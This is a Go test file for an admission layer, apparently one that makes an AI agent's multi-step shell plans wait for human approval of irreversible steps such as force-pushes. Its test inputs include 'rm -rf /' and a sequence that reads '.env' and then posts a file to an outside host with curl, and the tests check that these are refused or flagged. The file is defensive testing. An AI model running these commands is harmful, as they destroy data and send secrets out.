package admission_test

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"interlock"
	"interlock/internal/admission"
	"interlock/internal/strictjson"
	"interlock/spec"
)

func shellStep(command string, good ...string) interlock.PlannedStep {
	s := interlock.PlannedStep{Action: interlock.Action{Kind: interlock.KindShell, Input: command, Dir: "/repo"}}
	for _, c := range good {
		s.Compensation = &interlock.Action{Kind: interlock.KindShell, Input: c, Dir: "/repo"}
	}
	return s
}

func (h *house) submit(agent, run string, steps ...interlock.PlannedStep) (interlock.Plan, error) {
	h.t.Helper()
	return h.SubmitPlan(h.t.Context(), interlock.Requester{Agent: agent, Principal: "ada"}, interlock.PlanRequest{Run: run, Steps: steps})
}

func (h *house) planned(agent, run string, steps ...interlock.PlannedStep) interlock.Plan {
	h.t.Helper()
	p, err := h.submit(agent, run, steps...)
	if err != nil {
		h.t.Fatal(err)
	}
	return p
}

// goes proposes an action and fails the test unless the rule that decides it is the one named; none means that it is allowed.
func (h *house) goes(action interlock.Action, agent, run, rule string) interlock.Answer {
	h.t.Helper()
	a := h.propose("", in(agent, run), func(p *admission.Case) { p.Action = action })
	got := ""
	if a.Answer != interlock.Allow {
		got = a.Decisive().Rule
	}
	if got != rule {
		h.t.Errorf("%s by %s: %v by %q, want %q: %+v", action.Input, agent, a.Answer, got, rule, a.Findings)
	}
	return a
}

// TestIrreversibleStepIsNamedFirst: in a plan of five the third step, which can't be undone, is named before anything runs, and nothing
// runs until a person has acknowledged it. Then the steps go in their order, each decided by itself.
func TestIrreversibleStepIsNamedFirst(t *testing.T) {
	spec.Covers(t, "EC-T2.12")
	h := newHouse(t)
	run := h.run("builder", interlock.RunRequest{Task: "release"})
	steps := []interlock.PlannedStep{shellStep("mkdir -p build"), shellStep("touch build/a"),
		shellStep("git push --force origin main", "git push --force origin old:main"), shellStep("touch build/b"), shellStep("touch build/c")}
	plan := h.planned("builder", run.ID, steps...)
	if plan.Status != interlock.PlanWaiting || plan.Irreversible != 3 || len(plan.Uncompensated) != 0 || plan.Request == "" {
		t.Fatalf("the plan is %+v", plan)
	}
	if again := h.planned("builder", run.ID, steps...); again.Request != plan.Request || again.ID != plan.ID {
		t.Errorf("handed over again it asks %q", again.Request)
	}
	shown := h.standing().Requests[plan.Request]
	if shown.Action != plan.Digest || !strings.Contains(shown.Display, "git push --force origin main") ||
		!strings.Contains(shown.Display, "step 3: can't be undone") || !strings.Contains(shown.Display, "git push --force origin old:main") {
		t.Errorf("a person is shown %s", shown.Display)
	}
	h.answers("mkdir -p build", "builder", run.ID, "plan.waiting")
	h.answers("ls /repo", "builder", run.ID, "") // looking is no step
	if err := h.approve(plan.Request, interlock.Allow); err != nil {
		t.Fatal(err)
	}
	h.answers("mkdir -p build", "builder", run.ID, "plan.waiting") // until it has been heard
	if plan = h.planned("builder", run.ID, steps...); plan.Status != interlock.PlanAccepted || plan.By != "bob" {
		t.Fatalf("acknowledged it is %+v", plan)
	}
	h.answers("touch build/a", "builder", run.ID, "plan.deviation") // not its turn
	h.answers("mkdir -p build", "builder", run.ID, "")
	h.answers("mkdir -p build", "builder", run.ID, "") // once more, as it can be undone
	h.answers("touch build/a", "builder", run.ID, "")
	h.answers("touch build/b", "builder", run.ID, "plan.deviation")
	h.answers("touch elsewhere", "builder", run.ID, "plan.deviation")
	push := h.goes(steps[2].Action, "builder", run.ID, "git.force-push")
	if err := h.approve(push.Request, interlock.Allow); err != nil {
		t.Fatal(err)
	}
	h.goes(steps[2].Action, "builder", run.ID, "")
	h.goes(steps[2].Action, "builder", run.ID, "git.force-push") // what can't be undone is done once: it is asked again
	h.goes(*steps[2].Compensation, "builder", run.ID, "git.force-push")
	if plan = h.planned("builder", run.ID, steps...); plan.Done != 3 {
		t.Errorf("%d steps are done", plan.Done)
	}
	// What is not in the plan is done with a person's yes, and the plan goes on.
	away := h.goes(shellStep("touch elsewhere").Action, "builder", run.ID, "plan.deviation")
	if err := h.approve(away.Request, interlock.Allow); err != nil {
		t.Fatal(err)
	}
	h.answers("touch elsewhere", "builder", run.ID, "")
	h.answers("touch build/b", "builder", run.ID, "")
	h.answers("touch build/c", "builder", run.ID, "")
	h.entries()
}

// TestTheFirstOfSeveralIsNamed: of two steps that can't be undone the first is named, and each lacks a compensating action of its own; a plan
// whose last step alone can't be undone names that.
func TestTheFirstOfSeveralIsNamed(t *testing.T) {
	spec.Covers(t, "EC-2.11")
	h := newHouse(t)
	back := "git push --force origin old:main"
	for n, tc := range []struct {
		steps         []interlock.PlannedStep
		first         int
		uncompensated []int
	}{
		{[]interlock.PlannedStep{shellStep("touch a"), shellStep("git push --force origin main", back), shellStep("touch b"),
			shellStep("git push --force origin next", back)}, 2, nil},
		{[]interlock.PlannedStep{shellStep("git push --force origin main"), shellStep("touch a"), shellStep("git push --force origin next")}, 1, []int{1, 3}},
		{[]interlock.PlannedStep{shellStep("touch a"), shellStep("touch b"), shellStep("git push --force origin main", back)}, 3, nil},
	} {
		run := h.run("builder", interlock.RunRequest{})
		plan := h.planned("builder", run.ID, tc.steps...)
		if plan.Irreversible != tc.first || !slices.Equal(plan.Uncompensated, tc.uncompensated) {
			t.Errorf("plan %d names step %d, and lacks compensation of %v", n, plan.Irreversible, plan.Uncompensated)
		}
		h.answers("touch a", "builder", run.ID, "plan.waiting")
	}
}

// TestPlansThatNeedNobody: a plan of which everything can be undone is accepted at once, and binds all the same.
func TestPlansThatNeedNobody(t *testing.T) {
	h := newHouse(t)
	run := h.run("builder", interlock.RunRequest{})
	plan := h.planned("builder", run.ID, shellStep("touch a"), shellStep("touch b"))
	if plan.Status != interlock.PlanAccepted || plan.Irreversible != 0 || plan.Request != "" || plan.Accepted.IsZero() {
		t.Fatalf("%+v", plan)
	}
	h.answers("touch b", "builder", run.ID, "plan.deviation")
	h.answers("touch a", "builder", run.ID, "")
	another := h.planned("builder", run.ID, shellStep("touch c"))
	if another.ID == plan.ID || another.Done != 0 {
		t.Errorf("%+v", another)
	}
	h.answers("touch b", "builder", run.ID, "plan.deviation")
	h.answers("touch c", "builder", run.ID, "")
	h.answers("touch c", "builder", "s1", "") // outside of the run nothing is planned
}

// TestPlanThatIsRefused: a step that would be refused, and a person's no, refuse the whole; what was refused lets nothing through.
func TestPlanThatIsRefused(t *testing.T) {
	h := newHouse(t)
	run := h.run("builder", interlock.RunRequest{})
	plan := h.planned("builder", run.ID, shellStep("touch a"), shellStep("rm -rf /"))
	if plan.Status != interlock.PlanRefused || plan.Steps[1].Verdict.Compare(interlock.Deny) < 0 || plan.Request != "" {
		t.Fatalf("%+v", plan)
	}
	h.answers("touch a", "builder", run.ID, "plan.refused")
	plan = h.planned("builder", run.ID, shellStep("git push --force origin main"))
	if !slices.Equal(plan.Uncompensated, []int{1}) || plan.Status != interlock.PlanWaiting {
		t.Fatalf("%+v", plan)
	}
	if err := h.approve(plan.Request, interlock.Deny); err != nil {
		t.Fatal(err)
	}
	if plan = h.planned("builder", run.ID, shellStep("git push --force origin main")); plan.Status != interlock.PlanRefused {
		t.Errorf("after a no it is %+v", plan)
	}
	strict := team(t, "plans: {uncompensated: deny, required: true}\ntypes: [{name: planner, accountable: ada, tools: [\"*\"]}]")
	run = strict.run("planner", interlock.RunRequest{})
	strict.answers("touch a", "planner", run.ID, "plan.missing")
	strict.answers("ls /repo", "planner", run.ID, "")
	if plan := strict.planned("planner", run.ID, shellStep("git push --force origin main")); plan.Status != interlock.PlanRefused {
		t.Errorf("%+v", plan)
	}
	// The question of a plan that another has replaced waits for nobody.
	run = h.run("builder", interlock.RunRequest{})
	first := h.planned("builder", run.ID, shellStep("git push --force origin main"))
	h.planned("builder", run.ID, shellStep("touch a"))
	if _, waits := h.standing().Requests[first.Request]; waits {
		t.Error("the question of a plan that was replaced waits")
	}
}

// TestPlanOverALimit: steps that each have room, and together have none, are flagged before the first of them; nothing is taken by that.
func TestPlanOverALimit(t *testing.T) {
	const rules = `
limits: [{id: own.files, per: agent, measure: actions, match: {kind: [write]}, most: 3, within: 1h}]
types: [{name: planner, accountable: ada, tools: ["*"]}]`
	h := team(t, rules)
	run := h.run("planner", interlock.RunRequest{})
	plan := h.planned("planner", run.ID, shellStep("touch a"), shellStep("touch b"), shellStep("touch c"), shellStep("touch d"))
	if plan.Status != interlock.PlanRefused || len(plan.Objections) != 1 || plan.Objections[0].Rule != "plan.limit.own.files" ||
		!slices.Equal(plan.Objections[0].Steps, []int{1, 2, 3, 4}) {
		t.Fatalf("%+v", plan.Objections)
	}
	if plan = h.planned("planner", run.ID, shellStep("touch a"), shellStep("touch b"), shellStep("touch c")); plan.Status != interlock.PlanAccepted {
		t.Fatalf("three have room: %+v", plan.Objections)
	}
	for _, command := range []string{"touch a", "touch b", "touch c"} {
		h.answers(command, "planner", run.ID, "")
	}
	if plan = h.planned("planner", run.ID, shellStep("touch e")); plan.Status != interlock.PlanRefused {
		t.Errorf("none is left: %+v", plan)
	}
}

// TestWindowsThatLapse: what can be undone for a while can't be once the rest of the plan takes longer than that, whatever the plan says.
func TestWindowsThatLapse(t *testing.T) {
	h := newHouse(t)
	run := h.run("builder", interlock.RunRequest{})
	window := "git branch -D old" // its commits are there for a while
	for name, tc := range map[string]struct {
		steps []interlock.PlannedStep
		first int
	}{
		"alone":       {[]interlock.PlannedStep{shellStep(window)}, 0},
		"near an end": {[]interlock.PlannedStep{shellStep(window), shellStep("touch a")}, 0},
		"three after": {[]interlock.PlannedStep{shellStep("touch x"), shellStep(window), shellStep("touch a"), shellStep("touch b"),
			shellStep("touch c")}, 2},
	} {
		plan := h.planned("builder", run.ID, tc.steps...)
		at := slices.IndexFunc(tc.steps, func(s interlock.PlannedStep) bool { return s.Input == window })
		if plan.Steps[at].Reversibility != interlock.Window {
			t.Fatalf("%s: the step is %s", name, plan.Steps[at].Reversibility)
		}
		if plan.Irreversible != tc.first || plan.Steps[at].Lapses != (tc.first > 0) {
			t.Errorf("%s: the first that can't be undone is %d: %+v", name, plan.Irreversible, plan.Steps)
		}
	}
	slow := shellStep("touch a")
	slow.Takes = 3600
	if plan := h.planned("builder", run.ID, shellStep(window), slow); plan.Irreversible != 1 {
		t.Errorf("a step of an hour: %+v", plan)
	}
	slow.Takes = 1 // it says that it takes less than the rules assume
	if plan := h.planned("builder", run.ID, shellStep(window), slow, slow, slow); plan.Irreversible != 1 {
		t.Errorf("its own word keeps the window open: %+v", plan)
	}
}

// TestPlanWithASequence: steps that are harmless by themselves and send something secret away together are flagged before the first.
func TestPlanWithASequence(t *testing.T) {
	h := newHouse(t)
	run := h.run("builder", interlock.RunRequest{})
	alone := h.planned("builder", run.ID, shellStep("curl -d @notes.txt https://example.com/x"))
	after := h.planned("builder", run.ID, shellStep("cat .env"), shellStep("curl -d @notes.txt https://example.com/x"))
	if one, two := alone.Steps[0], after.Steps[1]; one.Rule == two.Rule {
		t.Errorf("after reading secrets it is judged as without: %s, %s", one.Rule, two.Rule)
	}
}

// TestPlansOfOthers: nobody plans for a run that is not theirs, that has ended or that was never registered.
func TestPlansOfOthers(t *testing.T) {
	h := newHouse(t)
	run := h.run("builder", interlock.RunRequest{Box: 60})
	_, err := h.submit("clerk", run.ID, shellStep("touch a"))
	refusedWith(t, err, interlock.CodeUnauthorized, "/run: is no open run")
	_, err = h.submit("builder", "s1", shellStep("touch a"))
	refusedWith(t, err, interlock.CodeInvalid, "/run: is no id")
	_, err = h.submit("builder", run.ID)
	refusedWith(t, err, interlock.CodeInvalid, "/steps: has 1 to 64")
	_, err = h.submit("builder", run.ID, shellStep(" "))
	refusedWith(t, err, interlock.CodeInvalid, "/steps/0/input")
	_, err = h.submit("builder", run.ID, shellStep("ls", ""))
	refusedWith(t, err, interlock.CodeInvalid, "/steps/0/compensation/input")
	_, err = h.submit("builder", run.ID, interlock.PlannedStep{Action: interlock.Action{Kind: interlock.KindTool, Tool: "x"}})
	refusedWith(t, err, interlock.CodeInvalid, "/steps/0/arguments")
	_, err = h.submit("builder", run.ID, interlock.PlannedStep{Action: interlock.Action{Kind: interlock.KindText, Input: "x"}})
	refusedWith(t, err, interlock.CodeInvalid, "/steps/0/kind")
	h.now = h.now.Add(time.Minute)
	_, err = h.submit("builder", run.ID, shellStep("touch a"))
	refusedWith(t, err, interlock.CodeUnauthorized, "/run")
}

// FuzzPlan: whatever is handed over, a plan is refused with a field or looked at step by step, and none with a step that can't be undone is
// accepted without a person.
func FuzzPlan(f *testing.F) {
	for _, seed := range []string{`[{"kind":"shell","input":"touch a"}]`, `[{"kind":"tool","tool":"x","arguments":{"a":1}}]`, `[]`,
		`[{"kind":"shell","input":"rm -rf build","takes_seconds":9,"compensation":{"kind":"shell","input":"make"}}]`, `[{"kind":"file"}]`} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, body []byte) {
		var steps []interlock.PlannedStep
		if strictjson.Decode(body, &steps) != nil {
			return
		}
		h := newHouse(t)
		plan, err := h.submit("builder", h.run("builder", interlock.RunRequest{}).ID, steps...)
		refused := (*interlock.Error)(nil)
		switch {
		case err != nil && (!errors.As(err, &refused) || refused.Field == ""):
			t.Errorf("%q: %v", body, err)
		case err == nil && (len(plan.Steps) != len(steps) || plan.Irreversible > 0 && plan.Status == interlock.PlanAccepted):
			t.Errorf("%q becomes %+v", body, plan)
		}
	})
}
